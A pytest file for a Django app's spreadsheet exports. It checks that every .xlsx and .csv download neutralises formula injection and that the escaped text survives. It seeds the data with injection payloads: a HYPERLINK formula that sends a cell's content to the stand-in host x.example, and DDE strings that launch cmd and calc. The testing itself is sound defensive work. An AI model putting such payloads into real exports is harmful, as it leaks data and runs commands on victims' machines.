"""No export holds a formula cell (spreadsheet formula injection, issue 14).

The export URLs are read from the URL resolver (every route ending in .xlsx or .csv), so
a new export fails this test until it is exercised here. The data behind them has every
text field beginning with a character a spreadsheet reads as a formula (``= + - @``,
tab, carriage return); each export is downloaded through its real URL as the staff role
that may download it, opened with openpyxl / csv, and checked: no formula cell (neither
in openpyxl's reading nor in the sheet XML), and the dangerous texts are still there, as
text (XLSX: verbatim string cells; CSV: behind a leading apostrophe).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from django.db import models
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from openpyxl import load_workbook

from fairshare.allocation.by_hand import has_mobile
from fairshare.allocation.models import SupplyDeclaration, Voucher
from fairshare.allocation.tokens import code_display
from fairshare.community.models import (
    Building,
    Committee,
    District,
    Household,
    Pharmacy,
    Subdistrict,
)
from fairshare.core.spreadsheet import FORMULA_PREFIXES, csv_row, safe_cell, xlsx_append
from fairshare.pharmacy.models import RedemptionConflict
from fairshare.registration.models import Registration
from fairshare.transparency.exports import EXPORTS
from tests.factories import UserFactory
from tests.pharmacy.conftest import bearer_for
from tests.transparency.factories import BoardWorld, board_world

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://x.example/?"&D2,"点击核实")'
MANUFACTURER = "=cmd|' /C calc'!A0"
STYLE = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+8613912345678"
TERMINAL = "-T1+cmd"
WRITER = re.compile(r"\bWorkbook\(|csv\.(writer|DictWriter)\(")  # writers; readers may load
SRC = Path(__file__).resolve().parents[2] / "src" / "fairshare"


# --- the export URLs, from the resolver ------------------------------------------------


def _routes(patterns: list, prefix: str = "") -> Iterator[str]:
    for entry in patterns:
        text = str(entry.pattern).lstrip("^").removesuffix("$").removesuffix(r"\Z")
        if isinstance(entry, URLResolver):
            yield from _routes(entry.url_patterns, prefix + text)
        elif isinstance(entry, URLPattern):
            yield prefix + text


def export_routes() -> set[str]:
    return {r for r in _routes(get_resolver().url_patterns) if r.endswith((".xlsx", ".csv"))}


# --- data whose every text field begins with a formula character ------------------------


@dataclass
class World:
    board: BoardWorld
    texts: set[str] = field(default_factory=set)  # every dangerous text seeded


def _poison(world: World, model: type[models.Model], pks: list[int], **fixed: str) -> None:
    """Prefix every free-text field of these rows with a formula character (a different
    one per field), or set it to ``fixed``."""
    text_fields = [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, (models.CharField, models.TextField)) and not f.choices
    ]
    for pk in pks:
        row = model._default_manager.get(pk=pk)
        values = {}
        for i, f in enumerate(text_fields):
            current = getattr(row, f.attname) or f"x{pk}"  # unique keys stay unique
            # Codes travel in URLs, where tab and CR are refused (one line): = + - @ only.
            prefixes = FORMULA_PREFIXES[:4] if f.name == "code" else FORMULA_PREFIXES
            prefix = prefixes[(i + pk) % len(prefixes)]
            value = fixed.get(f.name, prefix + current)[: f.max_length or None]
            values[f.attname] = value
        model._default_manager.filter(pk=pk).update(**values)
        world.texts.update(values.values())


@pytest.fixture
def world(client: Client) -> World:
    board = board_world(households_per_building=4, buildings=2)
    world = World(board)
    committee = Committee.objects.get(pk=board.committee.pk)
    _poison(world, District, [committee.subdistrict.district_id])
    _poison(world, Subdistrict, [committee.subdistrict_id])
    _poison(world, Committee, [committee.pk])
    _poison(world, Pharmacy, [committee.pharmacy_id])
    _poison(world, Building, [b.pk for b in board.buildings])
    _poison(world, Household, [h.pk for h in board.households])
    regs = [r.pk for r in board.registrations]
    _poison(world, Registration, regs[:1], name=NAME, phone=PHONE)
    _poison(world, Registration, regs[1:])
    decls = list(SupplyDeclaration.objects.values_list("pk", flat=True))
    _poison(world, SupplyDeclaration, decls, manufacturer=MANUFACTURER, style=STYLE)
    # An offline conflict (a typed code), so the reconciliation's conflict sheet has a row.
    pharmacy = Pharmacy.objects.get(pk=committee.pharmacy_id)
    pharmacist = UserFactory(role="pharmacy", pharmacy=pharmacy)
    voucher = board.vouchers[4]
    response = client.post(
        f"/api/v1/pharmacies/{quote(pharmacy.code, safe='')}/offline-redemptions",
        {
            "batch_id": "b-x",
            "items": [
                {
                    "code": code_display(voucher.code),
                    "redeemed_at": timezone.now().isoformat(),
                    "terminal_id": TERMINAL,
                }
            ],
        },
        content_type="application/json",
        **bearer_for(pharmacist),
    )
    assert response.status_code == 200, response.content
    assert RedemptionConflict.objects.filter(item__terminal_id=TERMINAL).exists()
    world.texts.add(TERMINAL)
    return world


def _user(role: str, world: World) -> Any:
    committee = Committee.objects.select_related("subdistrict").get(pk=world.board.committee.pk)
    scope = {
        "committee": {"committee": committee},
        "subdistrict": {"subdistrict": committee.subdistrict},
        "district": {"district": committee.subdistrict.district},
        "pharmacy": {"pharmacy_id": committee.pharmacy_id},
    }[role]
    return UserFactory(role=role, **scope)


# --- downloads: for each export route, who downloads what -------------------------------

# (role or None for anonymous, URL, texts that must appear in this download)
Download = tuple[str | None, str, set[str]]


def _round_exports(world: World) -> list[Download]:
    base = f"/public/staff/rounds/{world.board.round.pk}/export/"
    committee = Committee.objects.select_related("subdistrict__district", "pharmacy").get(
        pk=world.board.committee.pk
    )
    reg = Registration.objects.get(pk=world.board.registrations[0].pk)
    expected = {
        "registrations": {NAME, PHONE, committee.code, reg.household.building.label},
        "vouchers": {NAME, MANUFACTURER, STYLE, committee.code, committee.pharmacy.code},
        "daily": {committee.name, committee.pharmacy.code, committee.pharmacy.name},
    }
    downloads: list[Download] = []
    for kind in EXPORTS:  # every kind of the view, a new one included
        downloads.append(("committee", f"{base}{kind}.xlsx", expected.get(kind, set())))
        if kind != "daily":  # masked copies for the subdistrict: still text, never formulas
            downloads.append(("subdistrict", f"{base}{kind}.xlsx", {committee.code}))
    downloads.append(("subdistrict", f"{base}daily.xlsx", {committee.subdistrict.name}))
    downloads.append(("district", f"{base}daily.xlsx", {committee.subdistrict.district.name}))
    return downloads


def _reconciliation(world: World) -> list[Download]:
    pharmacy = Pharmacy.objects.get(pk=world.board.committee.pharmacy_id)
    decl = SupplyDeclaration.objects.get(supply_day__pharmacy=pharmacy)
    batch = f"{MANUFACTURER} {STYLE} ¥{decl.unit_price}"  # the by-batch sheet's label
    expected = {pharmacy.code, pharmacy.name, TERMINAL, batch}
    return [("pharmacy", "/pharmacy/reconciliation.xlsx", expected)]


def _public_pharmacies(world: World) -> list[Download]:
    pharmacy = Pharmacy.objects.get(pk=world.board.committee.pharmacy_id)
    return [
        (None, "/api/v1/public/pharmacies.csv", {pharmacy.code, pharmacy.name, pharmacy.address})
    ]


def _by_hand(world: World) -> list[Download]:
    """The notify-by-hand list: the poisoned phones are no mobiles, so the households
    holding an unbought voucher are on it, with their (poisoned) names."""
    committee = Committee.objects.get(pk=world.board.committee.pk)
    issued = Voucher.objects.filter(
        pk__in=[v.pk for v in world.board.vouchers.values()], status=Voucher.Status.ISSUED
    )
    # one of them has a landline only (the poisoned phones are still mobiles)
    first = issued.order_by("id").values_list("registration_id", flat=True)[0]
    Registration.objects.filter(pk=first).update(phone="@021-65431234")
    names = {
        name
        for name, phone in issued.values_list("registration__name", "registration__phone")
        if not has_mobile(phone)  # a poisoned "\t139…" is still a mobile
    }
    assert names
    url = f"/vouchers/committees/{quote(committee.code, safe='')}/by-hand.csv"
    return [("committee", url, names)]  # the committee's latest round: the board's


EXPORT_DOWNLOADS: dict[str, Callable[[World], list[Download]]] = {
    "vouchers/committees/<str:code>/by-hand.csv": _by_hand,
    "public/staff/rounds/<int:round_id>/export/<str:kind>.xlsx": _round_exports,
    "pharmacy/reconciliation.xlsx": _reconciliation,
    "api/v1/public/pharmacies.csv": _public_pharmacies,
}


def test_every_export_url_is_exercised():
    """A new .xlsx / .csv route fails here until EXPORT_DOWNLOADS downloads it."""
    assert export_routes() == set(EXPORT_DOWNLOADS), (
        "export routes not covered by EXPORT_DOWNLOADS (or gone): "
        f"{export_routes() ^ set(EXPORT_DOWNLOADS)}"
    )


# --- the checks ------------------------------------------------------------------------


def xml_text(text: str) -> str:
    """What an XML reader gives back: a carriage return reads as a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _xlsx_texts(content: bytes, url: str) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (
                    f"{url}: formula in {name}"
                )
    book = load_workbook(io.BytesIO(content))  # formulas kept as formulas (no data_only)
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{url}: {sheet.title}!{cell.coordinate} formula"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def _csv_texts(content: bytes, url: str) -> set[str]:
    texts = set()
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            if value.startswith(FORMULA_PREFIXES):
                float(value)  # only a number may begin with + or -; never a formula
            texts.add(value)
    return {t[1:] if t.startswith("'") else t for t in texts}


def test_no_export_holds_a_formula_and_the_text_survives(client, world):
    downloads = [d for build in EXPORT_DOWNLOADS.values() for d in build(world)]
    covered = set()
    for role, url, expected in downloads:
        client.logout()
        if role is not None:
            client.force_login(_user(role, world))
        response = client.get(url)
        assert response.status_code == 200, (role, url, response.status_code)
        if url.endswith(".csv"):
            assert response["Content-Type"].startswith("text/csv")
            texts = _csv_texts(response.content, url)
            raw = response.content.decode("utf-8-sig")
            assert all(f"'{text}" in raw for text in expected), (url, expected)
        else:
            texts = _xlsx_texts(response.content, url)
            expected = {xml_text(text) for text in expected}
        missing = expected - texts
        assert not missing, f"{url} as {role}: dangerous texts lost or altered: {missing}"
        dangerous = {t for t in texts if t.startswith(FORMULA_PREFIXES)}
        assert dangerous, f"{url} as {role}: no seeded text reached this export"
        covered.add(url)
    assert len(covered) >= len(EXPORT_DOWNLOADS)


# --- the helper itself ------------------------------------------------------------------


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_helper_makes_formula_like_text_text_and_keeps_numbers(prefix):
    from openpyxl import Workbook

    text = f"{prefix}1+1"
    assert safe_cell(text) == f"'{text}"
    assert csv_row([text, -5, 2.5, "plain", None]) == [f"'{text}", -5, 2.5, "plain", None]
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        xlsx_append(sheet, [text, -5, 2.5, "plain", None, "bad\x01char", text])
        buffer = io.BytesIO()
        book.save(buffer)
        cells = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
        assert [c.data_type for c in cells[:4]] == ["s", "n", "n", "s"]
        values = [xml_text(text), -5, 2.5, "plain", None, "bad\ufffdchar", xml_text(text)]
        assert [c.value for c in cells] == values
        assert cells[0].quotePrefix and cells[6].data_type == "s"


def test_every_spreadsheet_writer_uses_the_helper():
    """A module that writes CSV or XLSX goes through core/spreadsheet.py."""
    writers = []
    for path in SRC.rglob("*.py"):
        source = path.read_text(encoding="utf-8")
        if path.name == "spreadsheet.py" and path.parent.name == "core":
            continue
        if WRITER.search(source):
            writers.append(path)
            assert "fairshare.core.spreadsheet" in source, f"{path} writes cells directly"
    assert len(writers) >= 3
